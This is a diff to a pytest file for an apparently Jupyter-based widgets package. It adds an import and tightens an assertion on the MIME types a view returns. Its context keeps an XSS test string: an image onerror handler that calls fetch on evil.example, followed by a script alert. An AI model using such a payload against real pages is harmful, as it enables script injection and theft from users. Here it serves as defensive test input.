@@ -12,6 +12,7 @@ import pytest
 
 import widgets
 from tests.widgets import frames
+from widgets.kit.static import SHOWN
 
 XSS = "<img src=x onerror=\"fetch('https://evil.example')\">'\"</script><script>alert(1)</script>"
 
@@ -61,7 +62,7 @@ def failing(_progress: widgets.IngestProgress) -> None:
 def test_every_view_has_a_picture_a_text_and_a_live_form(view):
     bundle = view._repr_mimebundle_()
     data = bundle[0] if isinstance(bundle, tuple) else bundle
-    assert set(data) >= {"text/plain", "text/html", "application/vnd.jupyter.widget-view+json"}
+    assert set(data) == {"text/plain", "text/html", "application/vnd.jupyter.widget-view+json", SHOWN}
     match = re.fullmatch(
         r'<img src="data:image/svg\+xml;base64,([^"]+)" alt="[^"<>]+" style="max-width:100%">',
         data["text/html"],
